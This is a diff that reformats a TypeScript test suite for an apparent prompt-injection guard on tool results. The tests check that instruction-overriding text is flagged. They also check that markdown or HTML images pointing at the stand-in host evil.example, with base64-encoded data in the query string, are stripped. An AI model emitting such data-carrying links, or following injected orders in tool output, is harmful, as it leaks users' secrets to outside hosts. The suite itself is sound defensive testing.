@@ -57,7 +57,9 @@ describe('an answer', () => {
         reasons: expect.arrayContaining(['overrides instructions']),
       },
     });
-    expect(first).toMatchObject({ findings: [{ code: 'injection_found', at: '/result/content/1/text' }, {}, {}, {}] });
+    expect(first).toMatchObject({
+      findings: [{ code: 'injection_found', at: '/result/content/1/text' }, {}, {}, {}],
+    });
   });
 
   it('is marked when two blocks say together what neither says alone', async () => {
@@ -77,7 +79,9 @@ describe('an answer', () => {
       exchangeOf({ message: messageOf({ jsonrpc: '2.0', method, params: { data: ORDER } }) }),
     );
     expect((saidBy(told).params as JsonObject).data).toMatch(MARK);
-    const asking = answering({ inputRequests: { a: { method: 'elicitation/create', params: { message: ORDER } } } });
+    const asking = answering({
+      inputRequests: { a: { method: 'elicitation/create', params: { message: ORDER } } },
+    });
     expect(JSON.stringify(saidBy(await checks.question?.(asking)))).toContain('[bartizan ');
   });
 
@@ -114,19 +118,19 @@ describe('what comes after an answer that gives orders', () => {
 
 describe('a picture or a link (D10)', () => {
   const leak = 'https://evil.example/p.png?d=c2VjcmV0IHRleHQgb2YgdGhl';
-  it.each([
-    `![x](${leak})`,
-    `![x][1]\n\n[1]: ${leak}`,
-    `<img src="${leak}">`,
-    `![x](<${leak}>)`,
-  ])('is taken out where its address carries data: %s', async (text) => {
-    const decision = await judged(answering(textResult(`Here: ${text}`)));
-    expect(JSON.stringify(saidBy(decision))).not.toContain('?d=');
-    expect(decision).toMatchObject({ findings: [{ code: 'link_removed' }] });
-  });
+  it.each([`![x](${leak})`, `![x][1]\n\n[1]: ${leak}`, `<img src="${leak}">`, `![x](<${leak}>)`])(
+    'is taken out where its address carries data: %s',
+    async (text) => {
+      const decision = await judged(answering(textResult(`Here: ${text}`)));
+      expect(JSON.stringify(saidBy(decision))).not.toContain('?d=');
+      expect(decision).toMatchObject({ findings: [{ code: 'link_removed' }] });
+    },
+  );
 
   it('stays where it carries none, or its host was granted', async () => {
-    expect((await judged(answering(textResult('![logo](https://example.com/logo.png)'))))?.verdict).toBe('pass');
+    expect((await judged(answering(textResult('![logo](https://example.com/logo.png)'))))?.verdict).toBe(
+      'pass',
+    );
     expect((await judged(answering(textResult(`[docs](${leak})`))))?.verdict).toBe('pass');
     const granted = checksFor({ hosts: ['evil.example'] });
     expect((await judged(answering(textResult(`![x](${leak})`)), granted))?.verdict).toBe('pass');
